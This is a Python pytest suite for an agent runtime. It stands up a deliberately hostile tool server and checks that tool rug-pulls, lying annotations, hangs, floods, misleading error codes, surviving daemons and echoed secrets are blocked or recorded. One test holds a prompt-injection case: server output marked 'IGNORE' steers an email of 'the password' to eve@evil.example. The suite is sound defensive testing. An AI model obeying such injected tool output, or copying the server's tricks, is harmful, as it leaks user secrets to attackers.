"""A server that means harm, behind the whole runtime: what an agent gets, what is on record, what is left."""

import asyncio
import json
import os
import signal
import sys
import time
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

import pratique
from pratique.audit.chain import Verdict
from pratique.ledger.verification import verify_file
from pratique.model import Integrity, Outcome, Status, Tier
from pratique.proxy.pins import Pins
from pratique.proxy.servers import Servers
from pratique.runtime import Runtime
from tests.house import records
from tests.proxy.conftest import HOSTILE, Journal
from tests.proxy.test_hostile import gone, until
from tests.proxy.test_jailed import jailed_processes
from tests.proxy.told import approve

ECHO = "hostile.echo"
EVE = "eve@evil.example"

POLICY = """
[agents.support]
owner = "ana@acme.example"

[groups]
leads = ["li@acme.example", "bo@acme.example"]

[[allow]]
id = "hostile"
to = "support"
tools = ["hostile.*"]
tier = "irreversible"
taint = "sink"

[[allow]]
id = "mail"
to = "support"
tools = ["desk.*"]
tier = "irreversible"
taint = "none"
"""

Attacked = Callable[..., AbstractAsyncContextManager[Runtime]]
SENT: list[str] = []


@pratique.tool("desk.send", tier="egress", sources={"*": "meta"}, sinks={"to": "dest"})
async def send(ctx: pratique.ToolContext, to: str, body: str) -> dict[str, str]:  # noqa: ARG001  # it is a tool
    """Send a letter."""
    SENT.append(f"{to}: {body}")
    return {"sent": to}


@pytest.fixture
def attacked(tmp_path: Path, journal: Journal) -> Attacked:
    """Give what opens a runtime with the hostile server, whose tool was approved as it was at first."""

    @asynccontextmanager
    async def opened(
        what: str, *, tier: Tier = Tier.WRITE, jailed: bool = False, seconds: float = 10.0, more: str = ""
    ) -> AsyncIterator[Runtime]:
        program = "python3" if jailed else sys.executable
        command = json.dumps([program, "-I", "-S", str(HOSTILE), what])
        level = f'paths = ["{HOSTILE}"]' if jailed else 'runs_in = "inline"'
        variables = "" if jailed else f'environment = {{ JOURNAL = "{journal.path}" }}'
        (tmp_path / "policy.toml").write_text(POLICY)
        (tmp_path / "pratique.toml").write_text(
            f"{more}\n[servers.hostile]\ncommand = {command}\n{level}\n{variables}\ntimeout = {seconds}\n"
            + ('secrets = { TOKEN = "token" }\n' if "[secrets]" in more else "")
        )
        settings = pratique.Settings.load(tmp_path / "pratique.toml")
        async with pratique.open_runtime(settings, tools=[send]) as runtime:
            servers = runtime.registry.elsewhere
            assert isinstance(servers, Servers)
            await servers.check("hostile")
            approve(runtime, ECHO, tier)
            yield runtime
            path = runtime.ledger.path
        assert verify_file(path).verdict is not Verdict.BROKEN

    return opened


async def call(runtime: Runtime, text: str = "hello") -> Outcome:
    session = await runtime.open_session(agent="support", user="kim@acme.example", request="say hello")
    return await session.call(ECHO, {"text": text})


async def test_a_rug_pull_between_approval_and_call_runs_nothing(
    attacked: Attacked, journal: Journal
) -> None:
    async with attacked("changing") as runtime:
        outcome = await call(runtime)
        assert outcome.status is Status.FAILED
        assert "not what was approved" in outcome.error
        assert Pins(runtime.ledger).find(ECHO).state == "changed"
        assert (await call(runtime)).status is Status.DENIED
        kinds = [record["type"] for record in records(runtime.ledger)]
        assert "call.outcome" in kinds
    assert journal.count("call") == 0


def outcome_of(runtime: Runtime) -> Mapping[str, Any]:
    """Return the record of the one call's outcome."""
    (found,) = [one for one in records(runtime.ledger, "call.outcome") if one["tool"] == ECHO]
    return found


async def test_a_server_that_comes_back_as_another_between_approval_and_call_is_not_called(
    attacked: Attacked, journal: Journal
) -> None:
    async with attacked("changing-later") as runtime:
        (pid,) = journal.pids
        os.kill(pid, signal.SIGKILL)
        await until(lambda: gone(pid))
        outcome = await call(runtime)
        assert outcome.status is Status.FAILED
        assert "is not what was approved any more: it did not run" in outcome.error
        assert outcome_of(runtime)["outcome"] == "failed"
        assert outcome.error in outcome_of(runtime)["error"]
        assert Pins(runtime.ledger).find(ECHO).state == "changed"
        assert (await call(runtime)).status is Status.DENIED
    assert journal.count("call") == 0


@pytest.mark.parametrize("tier", [Tier.READ, Tier.WRITE])
async def test_a_server_that_dies_with_the_right_list_is_not_called_as_what_it_comes_back_as(
    attacked: Attacked, journal: Journal, tier: Tier
) -> None:
    """It lists what was approved, and dies; its next life lists something else, and would take the call."""
    async with attacked("changing-later,die-listed", tier=tier) as runtime:
        outcome = await call(runtime)
        # If its end is heard while the call is on its way, nobody can know that it was not taken.
        assert outcome.status in {Status.FAILED, Status.UNKNOWN}
        assert "not what was approved" in outcome.error or "was lost during the call" in outcome.error
        assert outcome_of(runtime)["outcome"] == outcome.status.value
        assert outcome_of(runtime)["error"] == outcome.error
    assert journal.count("call") == 0


@pytest.mark.parametrize(
    "what",
    [
        "code-32700",
        "code-32600",
        "code-32601",
        "code-32602",
        "code-32603",
        "code-32098",
        "code0",
        "lost-code-32700",  # JSON-RPC 2.0, section 5.1: whose request cannot be read gets a null id
    ],
)
async def test_no_error_that_a_server_answers_with_says_that_a_write_did_not_happen(
    attacked: Attacked, journal: Journal, what: str
) -> None:
    """It acted, and says "method not found", "invalid params" or "parse error": that is only its word."""
    seconds = 1.0 if what.startswith("lost") else 10.0
    async with attacked(what, tier=Tier.IRREVERSIBLE, seconds=seconds) as runtime:
        outcome = await call(runtime)
        assert outcome.status is Status.UNKNOWN
        assert "not sent" not in outcome.error
        assert "IGNORE" not in outcome.error
        assert len(records(runtime.ledger, "call.intent")) == 1
        assert (outcome_of(runtime)["outcome"], outcome_of(runtime)["error"]) == ("unknown", outcome.error)
        session = await runtime.resume_session(outcome_of(runtime)["session"])
        again = await session.call(ECHO, {"text": "hello"}, call_id=outcome.call_id)
        assert again.status is Status.UNKNOWN
    assert journal.count("call") == 1


async def test_annotations_that_lie_do_not_make_a_tool_harmless(attacked: Attacked) -> None:
    """The server calls itself read-only; the person said `write`, and so it has an intent on disk."""
    async with attacked("lying", tier=Tier.WRITE) as runtime:
        (spec,) = [one for one in await runtime.tools("support") if one.name == ECHO]
        assert spec.tier is Tier.WRITE
        assert (await call(runtime)).status is Status.DONE
        assert [record["tool"] for record in records(runtime.ledger, "call.intent")] == [ECHO]


@pytest.mark.parametrize("tier", [Tier.READ, Tier.WRITE])
@pytest.mark.parametrize("what", ["flood", "long-line", "wrong-id", "die-call", "bad-answer", "error"])
async def test_what_is_no_answer_is_on_record_and_does_not_run_twice(
    attacked: Attacked, journal: Journal, what: str, tier: Tier
) -> None:
    async with attacked(what, tier=tier) as runtime:
        outcome = await call(runtime)
        assert outcome.status is Status.UNKNOWN, "that it only reads is somebody's opinion"
        assert "IGNORE" not in outcome.error
        (record,) = [one for one in records(runtime.ledger, "call.outcome") if one["tool"] == ECHO]
        assert record["outcome"] == outcome.status.value
        session = await runtime.resume_session(record["session"])
        again = await session.call(ECHO, {"text": "hello"}, call_id=outcome.call_id)
        assert again.status is outcome.status
    assert journal.count("call") == 1
    assert all(map(gone, journal.pids))


async def test_a_server_that_hangs_costs_the_time_of_the_call_and_is_ended(
    attacked: Attacked, journal: Journal
) -> None:
    async with attacked("hang-call,ignore,stay", seconds=1.0) as runtime:
        started = time.monotonic()
        outcome = await call(runtime)
        assert time.monotonic() - started < 5
        assert outcome.status is Status.UNKNOWN
        assert "did not answer within" in outcome.error
        (record,) = [one for one in records(runtime.ledger, "call.outcome") if one["tool"] == ECHO]
        assert record["outcome"] == "unknown"
        await until(lambda: gone(journal.pids[-1]), 10)


@pytest.mark.usefixtures("a_jail")
async def test_nothing_of_a_jailed_server_outlives_the_runtime(attacked: Attacked) -> None:
    async with attacked("daemon,ignore,stay,of-the-attack", jailed=True) as runtime:
        assert (await call(runtime)).status is Status.DONE
        assert jailed_processes("of-the-attack") != []
    assert jailed_processes("of-the-attack") == []


async def test_a_call_that_is_cancelled_is_told_to_the_server_and_on_record(
    attacked: Attacked, journal: Journal
) -> None:
    async with attacked("hang-call", seconds=60) as runtime:
        calling = asyncio.create_task(call(runtime))
        await until(lambda: journal.count("call") == 1)
        calling.cancel()
        with pytest.raises(asyncio.CancelledError):
            await calling
        (record,) = [one for one in records(runtime.ledger, "call.outcome") if one["tool"] == ECHO]
        assert record["outcome"] == "unknown"
        await until(lambda: journal.count("cancelled") == 1)


async def test_a_server_that_asks_for_a_model_gets_none(attacked: Attacked) -> None:
    async with attacked("ask") as runtime:
        outcome = await call(runtime)
        assert outcome.status is Status.DONE
        said = json.loads(str(outcome.value))
        assert {answer["message"] for answer in said.values()} == {
            "Sampling not supported",
            "Elicitation not supported",
            "List roots not supported",
            "Method not found",
        }
        assert outcome.label.integrity is Integrity.UNTRUSTED


@pytest.mark.parametrize(("tier", "status"), [(Tier.READ, Status.FAILED), (Tier.WRITE, Status.UNKNOWN)])
async def test_a_server_that_wants_input_gets_none_and_its_word_that_nothing_ran_is_only_a_word(
    attacked: Attacked, tier: Tier, status: Status
) -> None:
    """It was called. Whether it did something before it asked, nobody knows but itself."""
    async with attacked("modern,input", tier=tier) as runtime:
        outcome = await call(runtime)
        assert outcome.status is status
        assert "asked for input" in outcome.error


async def test_what_a_server_says_is_followed_into_a_later_argument(attacked: Attacked) -> None:
    """The server's text names an address; a letter to that address is not sent on the server's word."""
    async with attacked("words", tier=Tier.READ) as runtime:
        session = await runtime.open_session(agent="support", user="kim@acme.example", request="write to bo")
        heard = await session.call(ECHO, {"text": "hello"})
        assert heard.label.integrity is Integrity.UNTRUSTED
        assert EVE in str(heard.value)
        assert not heard.text.startswith("IGNORE"), "it stands between marks"
        outcome = await session.call("desk.send", {"to": EVE, "body": "the password"})
        assert outcome.status is Status.DENIED
        assert any(ECHO in reason.text for reason in outcome.reasons)
    assert SENT == []


async def test_a_secret_that_a_server_gives_back_is_taken_out(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OF_THE_TESTS", "a-secret-of-the-tests")
    secrets = '[secrets]\ntoken = "env:OF_THE_TESTS"\n'
    async with attacked("environment", tier=Tier.READ, more=secrets) as runtime:
        outcome = await call(runtime)
        assert outcome.status is Status.DONE
        assert "a-secret-of-the-tests" not in str(outcome.value)
        assert "[secret token]" in str(outcome.value)


async def test_a_pattern_that_takes_for_ever_does_not_hold_the_runtime(attacked: Attacked) -> None:
    async with attacked("slow-pattern", tier=Tier.READ) as runtime:
        started = time.monotonic()
        outcome = await call(runtime)
        assert time.monotonic() - started < 5
        assert outcome.status in {Status.DONE, Status.UNKNOWN}


async def test_what_hangs_takes_no_other_call_with_it(attacked: Attacked) -> None:
    async with attacked("hang-call", seconds=2) as runtime:
        session = await runtime.open_session(
            agent="support", user="kim@acme.example", request="write to bo@acme.example"
        )
        hanging = asyncio.create_task(call(runtime))
        started = time.monotonic()
        sent = await session.call("desk.send", {"to": "bo@acme.example", "body": "hello"})
        assert time.monotonic() - started < 2
        assert sent.status is Status.DONE
        assert (await hanging).status is Status.UNKNOWN
    SENT.clear()
